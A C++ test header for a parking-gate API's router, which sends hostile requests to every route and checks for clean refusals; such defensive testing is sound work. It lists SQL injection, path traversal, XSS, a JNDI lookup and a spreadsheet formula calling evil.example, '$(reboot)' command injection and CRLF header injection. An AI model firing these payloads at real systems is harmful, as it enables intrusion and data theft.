// What a route must bear, made from the table of routes: a new route is tried by being there.
//
//   for (const Route& route : router.routes())
//     for (Request& request : hostile_requests(route)) expect_clean_refusal(send(request),
//     request);
#pragma once

#include "edge/api/body.hpp"
#include "edge/api/router.hpp"

#include <array>
#include <string>
#include <string_view>
#include <vector>

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

namespace gatehouse::api {

/// Texts that mean something to somebody behind us.
inline const std::vector<std::string>& hostile_texts() {
  static const std::vector<std::string> texts{
      "' OR '1'='1' --",
      "'; DROP TABLE users; --",
      "\" UNION SELECT password_hash FROM users",
      "../../../../etc/passwd",
      "..\\..\\windows\\win.ini",
      "%2e%2e%2fetc%2fpasswd",
      "<script>alert(1)</script>",
      "\"><img src=x onerror=alert(1)>",
      "javascript:alert(1)",
      "=HYPERLINK(\"http://evil.example\")",
      "+1+cmd|' /C calc'!A0",
      "@SUM(1)",
      "${jndi:ldap://evil.example/a}",
      "{{7*7}}",
      "$(reboot)",
      "`reboot`",
      "%s%s%n%n",
      "a\r\nSet-Cookie: gh_access=evil",
      "a\nb",
      std::string("a\0b", 3),
      "\x7f\x1b[2J",
      "\u202egpj.exe",
      "\xf0\x9f\x9a\x97",
      std::string(10'000, 'A'),
      "-1",
      "99999999999999999999999999",
      "1e308",
      "NaN",
      "null",
      "2026-13-45T99:99:99Z",
      "0000-00-00",
      "00000000-0000-0000-0000-000000000000",
  };
  return texts;
}

/// Names of members that some call or other knows.
inline constexpr std::array<std::string_view, 40> known_members{
    "qr_code",      "session_id",   "booking_id",     "vehicle_number",
    "slot",         "gate",         "payment_method", "amount",
    "tendered",     "stay",         "reason",         "owner_name",
    "zone_id",      "phone_number", "username",       "password",
    "reference",    "entered_at",   "float",          "counted",
    "shift_id",     "kind",         "description",    "page",
    "page_size",    "format",       "from",           "to",
    "date",         "status",       "user",           "q",
    "role",         "email",        "hours",          "old_password",
    "new_password", "refresh",      "action",         "scanner_device_id"};

/// Values as they stand in JSON.
inline std::vector<std::string> hostile_values() {
  std::vector<std::string> values{"null",
                                  "true",
                                  "-1",
                                  "0",
                                  "1.5",
                                  "1e400",
                                  "123456789012345678901234567890",
                                  "[]",
                                  "{}",
                                  "[[]]",
                                  "[null]",
                                  "\"\"",
                                  "\" \"",
                                  R"("\u0000")",
                                  R"("\ud800")",
                                  "\"\xff\xfe\"",
                                  "\"\xc0\xaf\""};
  for (const std::string& text : hostile_texts()) values.push_back(nlohmann::json(text).dump());
  return values;
}

/// Bodies that are none, or not what anybody asked for.
inline std::vector<std::string> hostile_bodies() {
  std::vector<std::string> bodies{
      "",
      "{",
      "null",
      "[]",
      "\"text\"",
      "17",
      "{}x",
      "{'a':1}",
      "{\"a\":}",
      std::string("{\"a\":\"\0\"}", 9),
      "\xff\xfe{\0}\0",
      "a=1&b=2",
      R"({"a":1,"a":2})",
      R"({"":1})",
      R"({"__proto__":{"role":"ADMIN"}})",
      std::string(100'000, '['),
      "{\"a\":" + std::string(5'000, '[') + std::string(5'000, ']') + "}",
      "{\"a\":\"" + std::string(60'000, 'x') + "\"}",
      std::string(70'000, ' ')};
  std::string many = "{";
  for (int i = 0; i < 1'000; ++i) many += (i == 0 ? "\"m" : ",\"m") + std::to_string(i) + "\":1";
  bodies.push_back(many + "}");
  for (const std::string& value : hostile_values()) {
    std::string all = "{";
    for (const std::string_view name : known_members)
      all += (all.size() == 1 ? "\"" : ",\"") + std::string(name) + "\":" + value;
    bodies.push_back(all + "}");
  }
  return bodies;
}

inline std::string percent_encoded(std::string_view text) {
  constexpr std::string_view digits = "0123456789ABCDEF";
  std::string encoded;
  for (const char c : text) {
    encoded += '%';
    encoded += digits[static_cast<unsigned char>(c) >> 4U];
    encoded += digits[static_cast<unsigned char>(c) & 15U];
  }
  return encoded;
}

/// The pattern with every `{name}` filled.
inline std::string path_with(const Route& route, std::string_view value) {
  std::string path;
  std::string_view rest = route.pattern;
  while (!rest.empty()) {
    const auto open = std::min(rest.find('{'), rest.size());
    path += rest.substr(0, open);
    rest.remove_prefix(open);
    if (rest.empty()) break;
    path += value;
    rest.remove_prefix(std::min(rest.find('}') + 1, rest.size()));
  }
  return path;
}

inline Request plain_request(const Route& route, std::string path) {
  Request request;
  request.method = route.method;
  request.path = std::move(path);
  request.peer_address = "203.0.113.9";
  request.headers.push_back({"Host", "lot.example"});
  return request;
}

/// Everything hostile that can be said to one route, without anybody's token.
inline std::vector<Request> hostile_requests(const Route& route) {
  std::vector<Request> requests;
  const std::string path = path_with(route, "ENTRY_GATE_01");
  if (route.pattern.contains('{')) {
    for (const std::string& text : hostile_texts())
      if (!text.contains('/')) requests.push_back(plain_request(route, path_with(route, text)));
  }
  for (const std::string& text : hostile_texts()) {
    requests.push_back(plain_request(route, path));
    for (const std::string_view name : known_members)
      requests.back().query += std::string(name) + "=" + percent_encoded(text) + "&";
  }
  // One at a time, as what is wrong with one may hide another.
  for (const std::string_view name : known_members) {
    requests.push_back(plain_request(route, path));
    requests.back().query = std::string(name) + "=" + percent_encoded(hostile_texts().front());
  }
  for (const char* query : {"%", "%zz", "=", "&&&", "a=%ff", "a=%00", "page=0", "page_size=9999"}) {
    requests.push_back(plain_request(route, path));
    requests.back().query = query;
  }
  if (route.method == Method::get) return requests;
  for (const std::string& body : hostile_bodies()) {
    for (const char* type : {"application/json", "application/x-www-form-urlencoded", "text/xml"}) {
      Request request = plain_request(route, path);
      request.headers.push_back({"Content-Type", type});
      request.body = body;
      requests.push_back(std::move(request));
    }
  }
  return requests;
}

/// An answer that tells the asker what they may know, and nothing else.
inline void expect_clean(const Response& response, const Request& request) {
  CAPTURE(name(request.method), request.path.substr(0, 200), request.query.substr(0, 200),
          request.body.substr(0, 200), response.status, response.body.substr(0, 500));
  CHECK((response.status < 500 || response.status == 503));
  CHECK(find_header(response.headers, "X-Request-Id").has_value());
  for (const Header& header : response.headers)
    CHECK(header.value.find_first_of("\r\n") == std::string::npos);
  if (response.status < 400) return;
  REQUIRE(response.content_type == json_type);
  const auto body = nlohmann::json::parse(response.body, nullptr, false);
  REQUIRE(body.is_object());
  CHECK(body["success"] == false);
  CHECK(body["error"] == body["message"]);
  CHECK(body["code"].get<std::string>().find_first_not_of(
            "abcdefghijklmnopqrstuvwxyz0123456789_") == std::string::npos);
  // A sentence of ours, with nothing of the inside.
  for (const char* inside : {"SELECT ", "sqlite", "SQLite", "UNIQUE constraint", ".cpp",
                             "std::", "terminate", "/usr/", "nlohmann", "exception"})
    CHECK_FALSE(body["error"].get<std::string>().contains(inside));
}

}  // namespace gatehouse::api
